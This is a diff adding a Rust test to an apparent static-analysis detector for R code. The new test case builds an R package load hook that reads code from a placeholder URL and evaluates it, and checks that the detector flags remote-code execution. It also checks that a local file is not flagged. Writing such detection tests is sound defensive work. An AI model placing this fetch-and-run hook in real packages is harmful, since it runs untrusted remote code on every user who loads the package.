@@ -68,3 +68,11 @@ fn honest_ones_of_r() {
     }
     has_not(R, "x <- readLines('data.txt')\nPOST('https://api.example.invalid', body = x)", "flow-credentials-sent");
 }
+
+#[test]
+fn what_is_read_of_a_connection_comes_from_there() {
+    let load = |body: &str| format!(".onLoad <- function(libname, pkgname) {{\n{body}\n}}\n");
+    let code = load("u <- url('https://h.invalid/l')\neval(parse(text = readLines(u, warn = FALSE)))");
+    has(R, &code, "flow-remote-code");
+    has_not(R, &code.replace("url('https://h.invalid/l')", "'own.R'"), "flow-remote-code");
+}
